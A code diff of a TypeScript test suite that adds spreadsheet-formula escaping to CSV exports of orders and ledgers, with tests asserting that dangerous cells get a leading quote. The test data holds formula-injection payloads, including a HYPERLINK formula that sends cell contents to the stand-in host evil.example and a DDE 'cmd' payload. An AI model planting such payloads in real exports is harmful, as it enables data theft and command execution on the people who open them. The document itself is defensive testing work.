@@ -25,17 +25,19 @@ function records(r: Res): Record<string, string>[] {
 }
 
 const cell = (v: unknown) => (v === null || v === undefined ? '' : String(v));
+/** A text value as a spreadsheet-safe CSV cell: a leading ' before = + - @ tab CR, except plain numbers. */
+const safe = (s: string) => (/^[=+\-@\t\r]/.test(s) && !/^-?\d+(\.\d+)?$/.test(s) ? `'${s}` : s);
 
 /** What an order of GET /orders looks like as an export row. */
 function orderRecord(o: any): Record<string, string> {
   return {
     order_id: o.order_id, created_at: o.created_at, type: o.type, status: o.status, partner_price: o.partner_price, currency: o.currency,
-    price_usd_ref: cell(o.price_usd_ref), quantity: String(o.quantity), recipient: o.recipient, label: o.label, completed_at: cell(o.completed_at),
-    refunded: String(o.refunded), client_reference: cell(o.client_reference), gift: cell(o.gift?.gift), failure_stage: cell(o.failure?.stage), failure_reason: cell(o.failure?.reason),
+    price_usd_ref: cell(o.price_usd_ref), quantity: String(o.quantity), recipient: safe(o.recipient), label: o.label, completed_at: cell(o.completed_at),
+    refunded: String(o.refunded), client_reference: safe(cell(o.client_reference)), gift: cell(o.gift?.gift), failure_stage: cell(o.failure?.stage), failure_reason: cell(o.failure?.reason),
   };
 }
 
-const ledgerRecord = (e: any) => Object.fromEntries(Object.entries(e).map(([k, v]) => [k, cell(v)]));
+const ledgerRecord = (e: any) => Object.fromEntries(Object.entries(e).map(([k, v]) => [k, safe(cell(v))]));
 
 /** Orders of every kind and outcome, two with a reference that needs quoting, and an order of another partner. */
 async function someOrders(t: TestService): Promise<{ p: TestPartner; other: TestPartner }> {
@@ -155,7 +157,7 @@ describe('the operator exports', () => {
     expect(mine.headers['content-disposition']).toBe(`attachment; filename="orders-${p.id}-2026-03-01.csv"`);
     expect(mine.raw).toBe((await p.call('GET', '/orders/export.csv')).raw);
     const theirs = records(await t.admin('GET', `/partners/${other.id}/orders/export.csv`));
-    expect(theirs.map((x) => x.recipient)).toEqual(['@other_user']);
+    expect(theirs.map((x) => x.recipient)).toEqual(["'@other_user"]);
     expect(records(await t.admin('GET', `/partners/${p.id}/orders/export.csv?status=failed`)).map((x) => x.status)).toEqual(['failed', 'failed']);
     const ledger = await t.admin('GET', `/partners/${p.id}/ledger/export.csv?currency=USD`);
     expect(ledger.raw).toBe((await p.call('GET', '/ledger/export.csv?currency=USD')).raw);
@@ -216,6 +218,45 @@ describe('streaming', () => {
     expect(r.statusCode).toBe(200);
     expect(r.body).toBe('c1,c2,c3,c4,c5,c6,c7\r\n"a,b","say ""hi""","line1\nline2","cr\rhere",,7,plain\r\n');
     expect(parse(r.body, { columns: true })).toEqual([{ c1: 'a,b', c2: 'say "hi"', c3: 'line1\nline2', c4: 'cr\rhere', c5: '', c6: '7', c7: 'plain' }]);
+  });
+});
+
+describe('spreadsheet formulas', () => {
+  it('a text cell beginning with = + - @ gets a leading \' in the partner and operator exports; signed amounts stay numbers', async () => {
+    const t = await service();
+    const p = await t.newPartner({ usd: '100.00' });
+    const refs = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '-12.50', 'plain ref'];
+    for (const client_reference of refs) expect((await p.order('stars', { quantity: 50, recipient: '@formula_user' }, undefined, { client_reference })).status).toBe(200);
+    for (const r of [await p.call('GET', '/orders/export.csv'), await t.admin('GET', `/partners/${p.id}/orders/export.csv`)]) {
+      expect(r.status).toBe(200);
+      const rows = records(r);
+      expect(rows.map((x) => x.client_reference)).toEqual([
+        'plain ref',
+        '-12.50',
+        "'@SUM(1,2)",
+        "'-2+3",
+        "'+cmd|' /C calc'!A0",
+        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+      ]);
+      expect(new Set(rows.map((x) => x.recipient))).toEqual(new Set(["'@formula_user"]));
+      expect(r.raw).toContain(',"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",');
+      // the JSON list keeps the values as they are
+      expect((await p.call('GET', '/orders')).body.items.map((o: any) => o.client_reference)).toEqual([...refs].reverse());
+    }
+    for (const r of [await p.call('GET', '/ledger/export.csv?currency=USD'), await t.admin('GET', `/partners/${p.id}/ledger/export.csv?currency=USD`)]) {
+      const debits = records(r).filter((x) => x.kind === 'order_debit');
+      expect(debits).toHaveLength(refs.length);
+      for (const d of debits) expect(d.amount).toBe('-0.79');
+    }
+  });
+
+  it('escapes a leading tab or carriage return, leaves numbers, nulls and inner signs alone', async () => {
+    const app = Fastify();
+    cleanup(() => app.close());
+    const rows = [['\tx', '\rx', 'a=b', '-7', '+7', -3, null, '@', '=', 'x@y', '-0.001', '- 5']];
+    app.get('/x.csv', async (_req, reply) => sendCsv(reply, { filename: 'x.csv', columns: rows[0].map((_c, i) => `c${i}`), rows: rows[Symbol.iterator]() }));
+    const r = await app.inject({ method: 'GET', url: '/x.csv' });
+    expect(r.body.split('\r\n')[1]).toBe(`'\tx,"'\rx",a=b,-7,'+7,-3,,'@,'=,x@y,-0.001,'- 5`);
   });
 });
 
